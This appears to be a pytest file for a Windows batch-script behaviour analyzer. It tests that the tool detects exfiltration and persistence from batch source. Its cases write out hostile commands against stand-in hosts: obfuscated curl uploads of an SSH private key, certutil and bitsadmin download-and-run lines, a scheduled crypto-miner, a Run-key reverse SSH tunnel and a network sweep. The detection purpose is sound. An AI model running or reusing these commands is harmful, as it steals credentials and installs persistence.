"""What Windows batch source leads to: a table of sources and the acts that must be among those found."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.language.context import Context
from pinfold.language.shell import batch
from pinfold.model import Act, Place

KEY = r"%USERPROFILE%\.ssh\id_rsa"
FAR = "https://drop.example/u"
SENDS = ("connect", {"DestinationHostname": "drop.example", "SentData": "~/.ssh/id_rsa"})


def acts_of(source: str) -> list[Act]:
    """Return the acts of ``source``; offsets stand in line and column."""
    return batch.acts(source, Context(place=lambda start, end: Place("x.bat", line=start, column=end)))


def images(source: str) -> list[str]:
    """Return the programs that ``source`` starts."""
    return [str(act.fields["Image"]) for act in acts_of(source) if act.kind == "exec"]


def holds(found: list[Act], kind: str, fields: dict[str, object]) -> bool:
    """Return whether an act of this kind has all these fields."""
    return any(
        act.kind == kind and all(act.fields.get(name) == value for name, value in fields.items()) for act in found
    )


CASES = {
    "plain": (f"curl -T {KEY} {FAR}", SENDS),
    "quoted": (f'curl -F "f=@{KEY}" {FAR}', SENDS),
    "continued": (f"curl -T {KEY} ^\r\n  {FAR}", SENDS),
    "variable": (f"set FILE={KEY}\ncurl -T %FILE% {FAR}", SENDS),
    "quoted variable": (f'set "FILE={KEY}"\r\nset SITE=drop.example\r\ncurl -T "%file%" https://%SITE%/u', SENDS),
    "delayed variable": (f"set FILE={KEY}\ncurl -T !FILE! {FAR}", SENDS),
    "pieces": (f"set a=cu\nset b=rl\n%a%%b% -T {KEY} {FAR}", SENDS),
    "letters of a constant": (f"set A=xcurly\n%A:~1,4% -T {KEY} {FAR}", SENDS),
    "replaced": (f"set A=cXrl\n%A:X=u% -T {KEY} {FAR}", SENDS),
    "loop": (f'for %%f in ({KEY} b.txt) do curl -T "%%f" {FAR}', SENDS),
    "loop with a group": (f"for %%f in ({KEY}) do (\n  echo %%~nxf\n  curl -T %%f {FAR}\n)", SENDS),
    "loop over output": (f'for /f "tokens=*" %%i in (\'type {KEY}\') do curl -d "%%i" {FAR}', SENDS),
    "loop over a file": (f"for /f %%i in ({KEY}) do curl -d %%i {FAR}", SENDS),
    "piped": (f"type {KEY} | curl -T - {FAR}", SENDS),
    "condition": (f'if exist "{KEY}" curl -T {KEY} {FAR}', SENDS),
    "compared": (f'if /i not "%1"=="a b" (echo a) else curl -T {KEY} {FAR}', SENDS),
    "one after the other": (f"cd x & echo a && curl -T {KEY} {FAR}", SENDS),
    "started": (f'start "title" /b /min curl -T {KEY} {FAR}', SENDS),
    "in another interpreter": (f'cmd.exe /c "echo a & curl -T {KEY} {FAR}"', SENDS),
    "in another interpreter, in words": (f"cmd /d /c curl -T {KEY} {FAR}", SENDS),
    "called": (f"call curl -T {KEY} {FAR}", SENDS),
    "escaped": (f"c^u^r^l -T {KEY} {FAR}", SENDS),
    "silent": (f"@CURL.EXE -T {KEY} {FAR} >nul 2>&1", SENDS),
    "at a prompt": (f"C:\\Users\\me> curl -T {KEY} {FAR}", SENDS),
    "copied first": (f"copy /y {KEY} a.txt\ncurl -T a.txt {FAR}", ("write", {"Origin": "~/.ssh/id_rsa"})),
    "application data": (r"type %APPDATA%\Code\x.json", ("read", {"TargetFilename": "~/AppData/Roaming/Code/x.json"})),
    "the script's folder": (r"type %~dp0\x.txt", ("read", {"TargetFilename": ".//x.txt"})),
    "a sweep": (
        "for /l %%n in (1,1,254) do ping -n 1 10.0.0.%%n",
        ("connect", {"DestinationIp": "10.0.0.*", "Protocol": "icmp"}),
    ),
    "certutil": (
        f"certutil -urlcache -split -f {FAR} C:\\t\\a.bat & call C:\\t\\a.bat",
        ("exec", {"Image": "C:/t/a.bat", "ImageOrigin": FAR}),
    ),
    "bitsadmin": (
        f"bitsadmin /transfer j {FAR} C:\\t\\a.exe",
        ("write", {"TargetFilename": "C:/t/a.exe", "Origin": FAR}),
    ),
    "scheduled": (
        'schtasks /create /tn a /sc minute /tr "C:\\m.exe -o stratum+tcp://pool.example:3333"',
        ("connect", {"DestinationHostname": "pool.example", "DestinationPort": 3333}),
    ),
    "at each start": (
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "ssh -NR 1:b:2 far.example" /f',
        ("connect", {"DestinationHostname": "far.example", "ReverseTunnel": True}),
    ),
    "by wmic": (f'wmic process call create "curl {FAR}"', ("connect", {"DestinationHostname": "drop.example"})),
}


@pytest.mark.parametrize(("source", "expected"), CASES.values(), ids=CASES)
def test_a_command_leads_to_its_acts(source, expected):
    assert holds(acts_of(source), *expected)


@pytest.mark.parametrize(
    "source",
    [
        f"rem curl -T {KEY} {FAR}",
        f":: curl -T {KEY} {FAR}",
        f":label curl {FAR}",
        "@echo off\nsetlocal\ntitle curl a\ngoto :end\nexit /b 0\n:end",
        "call :label curl",
        "echo.\necho on\ntimeout /t 5 /nobreak >nul",
    ],
)
def test_remarks_labels_and_jumps_are_no_commands(source):
    assert images(source) == []


def test_parentheses_in_a_message_are_words():
    (act,) = acts_of("echo Do (or do not) %%d 100%% $x `y` ^& z\n")
    assert act.fields["CommandLine"] == "echo Do (or do not) %d 100% $x `y` & z"


def test_an_act_stands_where_its_command_stands():
    source = f"@echo off\r\nset A=b\r\n  curl {FAR}/%A%\r\n"
    act = next(act for act in acts_of(source) if act.kind == "connect")
    assert act.place.line == source.index("curl")


def test_what_is_written_like_a_shell_is_read_like_one():
    assert holds(acts_of(f"curl -d $(cat ~/.ssh/id_rsa) {FAR}"), *SENDS)


@given(
    st.lists(
        st.sampled_from(
            [
                "for %%a in (",
                ") do ",
                "(",
                ")",
                "if ",
                "set ",
                '"',
                "%a%",
                "%%a",
                "^",
                "\n",
                "&",
                "|",
                ">",
                "nul",
                "x",
                " ",
                "\\",
                "!a!",
                "/f ",
                "'",
                "call ",
                ":",
                "==",
            ]
        ),
        max_size=60,
    ).map("".join)
)
def test_no_source_upsets_the_reader(source):
    for act in acts_of(source):
        assert 0 <= act.place.line <= len(source)


@pytest.mark.parametrize(
    "piece", ['"', "%a", "for %%a in (b) do ", "(", 'set "a=', "^", "if a ", "!a", "%%~a", "a=b=="]
)
def test_long_source_is_read_in_a_moment(piece):
    began = time.monotonic()
    acts_of("@" + piece * (200_000 // len(piece)))
    assert time.monotonic() - began < 5
